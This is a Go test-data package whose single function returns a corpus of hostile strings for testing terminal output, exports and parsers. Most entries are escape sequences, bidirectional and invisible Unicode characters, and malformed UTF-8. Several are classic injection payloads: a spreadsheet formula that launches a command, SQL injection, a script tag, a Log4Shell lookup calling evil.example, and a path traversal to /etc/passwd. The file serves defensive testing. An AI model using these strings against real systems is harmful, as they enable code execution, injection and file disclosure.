// Package namestest holds the hostile strings that every screen, export and parser is tried with (threats A1). It is test data
// only, and knows nothing.
package namestest

import "strings"

// Hostile returns the corpus: each string is one known way to break out of a terminal cell, to hide or to add text.
func Hostile() []string {
	return []string{
		"\x1b[31mred", "\x1b[8mhidden", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b[?1049l", "\x1b[6n", "\x1b[c",
		"\x1b]52;c;ZXZpbA==\x07", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
		"\x1b]0;unterminated", "\x1bPq#0;2;0;0;0\x1b\\", "\x1bP$qm\x1b\\", "\x1bPunterminated", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\",
		"lone\x1b", "\x1b\x1b[m", "bell\x07", "back\b\b\b\bspace", "nul\x00nul", "shift\x0eout\x0fin", "del\x7f",
		"\u009b31mC1", "\u0090dcs\u009c", "\u009d0;osc\u009c", "\u0085nel", "DISABLE\rkeep   ", "two\nlines", "two\r\nlines", "tab\tbed",
		"vertical\x0btab\x0cfeed", "\u202egnp.exe", "a\u202db", "\u2066iso\u2069late", "\u2068open isolate", "\u061carabic mark", "\u200e\u200fmarks",
		"zero\u200bwidth\u200cjoin\u200d", "\ufeffbom", "soft\u00adhyphen", "\u2060word\u2063joiner", "tag\U000e0041\U000e007f", "\ufff9inter\ufffalinear\ufffb",
		"line\u2028sep", "para\u2029sep", "Z" + strings.Repeat("\u0301", 40) + "algo", strings.Repeat("\u0489", 9), "e\u0301 NFD é",
		"bad\xff\xfeutf8", "\xc3", "\xed\xa0\x80surrogate", "\xf0\x9f\x98", strings.Repeat("long ", 200), strings.Repeat("陳", 300),
		"Wei Chen 陳偉", "ليلى حداد", "שרה לוי", "Layla (ليلى) Haddad", "한글 이름", "ｆｕｌｌ ｗｉｄｔｈ", "👩‍👩‍👧‍👦 family", "🇬🇧 flag", "👍🏽", "☎️ selector",
		"%s%d%n", "=cmd|'/c calc'!A1", "'; DROP TABLE op; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "../../etc/passwd", "\u3164filler\uffa0", "\u2800braille blank",
		"", " ", "   leading", "trailing   ", "\u00a0nbsp\u2003em",
	}
}
